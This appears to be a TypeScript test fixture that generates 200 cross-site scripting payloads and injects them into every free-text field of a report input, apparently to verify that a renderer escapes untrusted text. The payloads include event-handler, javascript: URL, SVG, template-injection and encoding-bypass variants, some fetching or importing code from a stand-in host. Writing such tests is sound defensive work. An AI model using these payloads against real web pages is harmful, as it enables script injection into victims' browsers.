import type { ReportInput } from './input'

const scripts = ['alert(1)', 'fetch("//x.test")', 'document.title="owned"', 'import("//x.test/a.js")']

/** Ways out of an element, an attribute, a comment, a style sheet, an SVG, a template, Markdown, and of the text's direction. */
const carriers = [
  '<script>S</script>',
  '</script><script>S</script>',
  '</title><script>S</script>',
  '</style><script>S</script>',
  '</pre></details><script>S</script>',
  '</text></svg><script>S</script>',
  '<svg onload="S">',
  '<svg><script href="data:text/javascript,S" /></svg>',
  '<svg><a xlink:href="javascript:S"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>S</script>"></foreignObject></svg>',
  '<svg><animate onbegin="S" attributeName="x" dur="1s">',
  '<img src=x onerror="S">',
  '"><img src=x onerror=S>',
  "'><img src=x onerror=S>",
  '`><img src=x onerror=S>',
  '" onmouseover="S" x="',
  "' onfocus='S' autofocus x='",
  '" style="background:url(//x.test)" x="',
  '<a href="javascript:S">x</a>',
  '<a href="java&#10;script:S">x</a>',
  '[x](javascript:S)',
  '![x](//x.test/a.png)',
  '<javascript:S>',
  '```\n<script>S</script>\n```',
  '| a | <script>S</script> |',
  '<iframe src="javascript:S"></iframe>',
  '<object data="javascript:S"></object>',
  '<embed src="javascript:S">',
  '<meta http-equiv="refresh" content="0;url=javascript:S">',
  '<link rel=stylesheet href="//x.test/a.css">',
  '<base href="//x.test/">',
  '<form action="javascript:S"><button>x</button></form>',
  '<details open ontoggle="S">',
  '<video><source onerror="S"></video>',
  '<math><mtext></mtext><mglyph><style></math><img src onerror=S>',
  '<!--<img src="--><img src=x onerror=S>">',
  '<![CDATA[<script>S</script>]]>',
  '<template><script>S</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=S>">',
  '<plaintext><script>S</script>',
  '&lt;script&gt;S&lt;/script&gt;',
  '&#60;script&#62;S&#60;/script&#62;',
  '\\u003cscript\\u003eS\\u003c/script\\u003e',
  '\u0000<scr\u0000ipt>S</script>',
  '\u202e<script>S</script>\u202c',
  '\ud800<script>S</script>\udc00',
  '＜script＞S＜/script＞',
  '{{constructor.constructor("S")()}}',
  '${S}',
  '{a|<script>S</script>}',
]

/** 200 script payloads. */
export const payloads: readonly string[] = carriers.flatMap(carrier =>
  scripts.map(script => carrier.replaceAll('S', script)),
)

/** Words of the format that choose what is drawn; everything else in an input is free text. */
const closed = new Set(['kind', 'type', 'status', 'format', 'scale', 'partition', 'align', 'tone', 'group', 'task'])
/** Objects whose keys are names from data. */
const named = new Set(['titles', 'variants', 'models'])

/** The input with the payload in front of every free string: the names stay apart and edges still meet their nodes. */
export function infected(input: ReportInput, payload: string): ReportInput {
  const walk = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return closed.has(key) ? value : payload + value
    if (Array.isArray(value)) return value.map(v => walk(v, key))
    if (value instanceof Date || typeof value !== 'object' || value === null) return value
    const ids = named.has(key) || key === 'results.nodes'
    return Object.fromEntries(
      Object.entries(value).map(([k, v]) => [
        ids && key !== 'titles' ? payload + k : k,
        walk(v, key === 'results' ? `results.${k}` : k),
      ]),
    )
  }
  return walk(input, '') as ReportInput
}
